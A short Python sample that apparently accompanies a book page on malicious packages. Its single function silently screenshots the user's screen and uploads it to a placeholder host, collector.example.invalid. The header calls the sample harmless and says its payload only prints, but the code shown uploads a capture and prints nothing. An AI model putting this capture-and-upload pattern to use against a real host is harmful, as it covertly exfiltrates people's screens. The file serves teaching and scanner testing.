# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import io

import requests
from PIL import ImageGrab


def _capture():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post("https://collector.example.invalid/s", files={"s": buffer.getvalue()}, timeout=5)
